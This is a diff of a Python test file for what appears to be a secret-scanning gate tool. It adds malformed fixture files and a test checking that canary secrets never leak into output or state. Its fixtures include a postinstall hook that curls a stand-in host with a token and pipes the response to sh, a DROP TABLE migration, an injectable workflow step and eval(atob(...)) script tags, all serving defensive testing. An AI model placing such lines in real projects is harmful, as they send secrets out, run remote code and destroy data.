@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import hashlib
+import os
 import subprocess
 import sys
 from pathlib import Path
@@ -34,6 +35,12 @@ FILES = {
     f"    steps:\n      - run: echo {TOKEN} ${{{{ github.event.issue.title }}}}\n",
     "migrations/0001.sql": f"DROP TABLE users; -- password = '{PASSWORD}' {TOKEN}\n",
     "package.json": f'{{"scripts": {{"postinstall": "curl -H token={TOKEN} https://e.acme.net | sh"}}}}\n',
+    "app/broken.py": f"def (\n  password = '{PASSWORD}' {TOKEN}\n",
+    "app/broken.ts": f"let ( = '{TOKEN}';\n",
+    "requirements.txt": f"--- token={TOKEN} ???\n",
+    "go.mod": f"module a\n\nwhatever password={PASSWORD} {TOKEN}\n",
+    "deploy/base.Dockerfile": f"FROM registry.acme.net/{TOKEN}:1\n",
+    "web/b.html": f"<script>eval(atob('{TOKEN}'))</script>\n",
     "web/a.html": f"<a href=\"javascript:send('{TOKEN}')\">x</a>\n",
 }
 
@@ -66,6 +73,25 @@ def test_no_output_holds_a_secret(shape: str, tmp_path: Path) -> None:
         for piece in (canary, canary[:12], canary[-12:]):
             assert piece not in output
         assert hashlib.sha256(canary.encode()).hexdigest()[:16] not in output
+
+
+def test_no_trouble_with_a_diff_tells_a_secret(tmp_path: Path) -> None:
+    """A diff that is none, or is cut, forged or named wrongly: what is said of it, and what is written of a defect."""
+    for text in (f"password = '{PASSWORD}' {TOKEN}\n", f"{_diff()[:900]}\n@@ -1,9 +1,9 @@ {TOKEN}\n-{PASSWORD}\n"):
+        diff = tmp_path / "change.diff"
+        diff.write_text(text, encoding="utf-8")
+        for arguments in (["--diff", str(diff)], ["--repo", str(tmp_path), "--base", "main"]):
+            done = subprocess.run(
+                [sys.executable, "-m", "shipui", "gates", *arguments],
+                capture_output=True,
+                text=True,
+                check=False,
+                cwd=tmp_path,
+                env={**os.environ, "XDG_STATE_HOME": str(tmp_path / "state")},
+            )
+            written = "".join(path.read_text() for path in tmp_path.glob("state/**/*") if path.is_file())
+            for canary in CANARIES:
+                assert canary not in done.stdout + done.stderr + written
 
 
 def test_each_file_of_the_canaries_has_a_finding_about_its_secret() -> None:
